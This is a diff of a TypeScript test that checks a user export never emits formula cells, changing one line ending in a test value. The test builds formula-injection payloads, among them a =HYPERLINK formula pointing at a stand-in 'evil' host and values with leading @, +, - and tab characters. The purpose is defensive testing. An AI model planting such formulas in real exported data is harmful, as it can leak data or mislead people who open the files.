@@ -83,7 +83,7 @@ describe('an export of users', () => {
   it('gives back exactly what stands in a record, and no cell that is a formula (R72)', async () => {
     const hostile = (what: string) => `=HYPERLINK("http://evil/${what}"),'; \\; @x`;
     const contact = await addContact(app, { name: hostile('contact'), emails: ['+x@example.com'] });
-    const bob = { name: '@bob', email: '-bob@example.com', description: `\t${hostile('words')}\r\n'=x` };
+    const bob = { name: '@bob', email: '-bob@example.com', description: `\t${hostile('words')}\n'=x` };
     await app.db.write(async (trx) => {
       const further = { contact_id: contact, api_only_reason: hostile('reason'), api_only_owner_id: app.people.rita };
       await trx('users')
